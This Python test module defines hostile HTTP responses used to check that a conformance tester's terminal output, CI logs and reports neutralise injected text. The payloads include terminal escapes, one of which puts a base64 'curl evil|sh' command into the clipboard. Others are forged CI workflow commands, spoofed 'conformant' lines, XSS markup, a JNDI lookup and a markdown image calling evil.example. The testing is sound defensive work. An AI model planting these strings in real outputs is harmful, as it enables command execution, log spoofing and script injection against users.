"""Text that would do something to a terminal, to a CI log, to a reader of the report or to a parser of it."""

from __future__ import annotations

import json
from functools import partial

from tests.hostile.kit import Behave, Behaviour, always, http

# What was said ends up in the report for people, in report.json and in JUnit's XML.
injection = partial(Behaviour, "injection", options=("--junitxml=junit.xml",))
SHOWN = "error-has-object"  # the rule whose card shows what `error` was


def in_error(text: str) -> Behave:
    """Errors whose `error` is a text, not an object: the report quotes it. The text is in a header too, where one can be."""
    body = json.dumps({"status": 401, "success": False, "error": text, "message": text}, ensure_ascii=False)
    line = "".join(c for c in text if c not in "\r\n\0\x0b\x0c" and ord(c) < 256)[:50_000].encode("latin-1")
    return always(http(body.encode("utf-8", "surrogatepass"), b"X-Say: " + line, status=b"400 No"))


def in_page(raw: bytes) -> Behave:
    """No JSON at all: the report quotes the body as text."""
    return always(http(raw, status=b"400 No"))


def in_reason(text: bytes) -> Behave:
    """The text as reason phrase, of an answer that is broken as well."""
    return always(http(b"{}", status=b"200 " + text))


def in_header(raw: bytes) -> Behave:
    """A line in the head that no parser takes: its complaint quotes it."""
    return always(http(b"{}", raw))


FORGED = "\nconformant\n"
INJECTION = (
    injection("ansi", "Colours, cursor, screen.", in_page(b"\x1b[2J\x1b[H\x1b[32mconformant\x1b[0m"), word="body-is-strict-json"),
    injection("osc-8", "A link of the terminal.", in_page(b"\x1b]8;;http://evil.example\x07click\x1b]8;;\x07")),
    injection("osc-52", "Something into the clipboard.", in_error("\x1b]52;c;Y3VybCBldmlsfHNo\x07"), word=SHOWN),
    injection("c1", "C1 controls, raw and in UTF-8.", in_page(b"\x9b2J\x9d0;x\x9c\xc2\x9b2J")),
    injection(
        "bidi", "Text that is shown from right to left.", in_error("\u202etnamrofnoc\u202c \u2066x\u2069 \u200f"), word=SHOWN
    ),
    injection(
        "invisible", "Zero width, tags, variation selectors.", in_error("a\u200bb\ufeffc\U000e0041\ufe0f\u00ad"), word=SHOWN
    ),
    injection("forged-last-line", "A last line that says conformant.", in_error(FORGED * 3), word=SHOWN),
    injection(
        "github",
        "Commands of GitHub's runners.",
        in_error("\n::error file=a::boo\n::set-output name=a::b\n::add-mask::a\n::stop-commands::x\n##[error]boo"),
        word=SHOWN,
    ),
    injection(
        "azure", "Commands of Azure's pipelines.", in_error("##vso[task.setvariable variable=a]b\n##[command]x"), word=SHOWN
    ),
    injection("teamcity", "Service messages of TeamCity.", in_error("##teamcity[testFailed name='x']"), word=SHOWN),
    injection(
        "gitlab", "A section of GitLab's log.", in_error("section_start:1:x\r\x1b[0Kboo\nsection_end:1:x\r\x1b[0K"), word=SHOWN
    ),
    injection("in-reason", "Escapes in the reason phrase.", in_reason(b"\x1b[31m::error::boo"), word="success-is-boolean"),
    injection(
        "in-header-name",
        "A workflow command where a header's name should be.",
        in_header(b"::error::boo\x1b[31m ##vso[x]: 1"),
        word="one-answer-in-time",
    ),
    injection(
        "in-content-type",
        "A workflow command as content type.",
        always(http(b"{}").replace(b"application/json", b"::error::boo ##vso[x] ##teamcity[x] \xff\x9b")),
        word="content-type-is-json",
    ),
    injection(
        "in-location",
        "A workflow command as Location.",
        always(http(b"", b"Location: ::error::##vso[x]\xe9", status=b"302 -")),
        word="no-redirect",
    ),
    injection(
        "in-key",
        "A workflow command as a key that is there twice.",
        always(http(b'{"::error::boo": 1, "::error::boo": 2, "\\u001b[31m": 1, "\\u001b[31m": 2}')),
        word="body-is-strict-json",
    ),
    injection(
        "html", "Markup in an error.", in_error("<script>alert(1)</script><img src=x onerror=alert(1)>&amp;\"'"), word=SHOWN
    ),
    injection(
        "xml-controls", "Characters that XML cannot hold.", in_error("\x01\x02\x0b\x1f\ufffe\uffff\ud800"), word="body-is-"
    ),
    injection(
        "formats",
        "Format strings of three languages.",
        in_error("{} {0.__class__} %s %n %(x)s ${jndi:ldap://x} {{7*7}}"),
        word=SHOWN,
    ),
    injection(
        "markdown",
        "A picture that would be loaded.",
        in_error("![x](http://evil.example/a.png) [click](javascript:x) | a | b |"),
        word=SHOWN,
    ),
    injection("long-line", "One line of 900 KB.", in_error("a" * 450_000), word=SHOWN),
    injection("combining", "One letter with 5,000 accents.", in_error("Z" + "\u0301" * 5000), word=SHOWN),
)
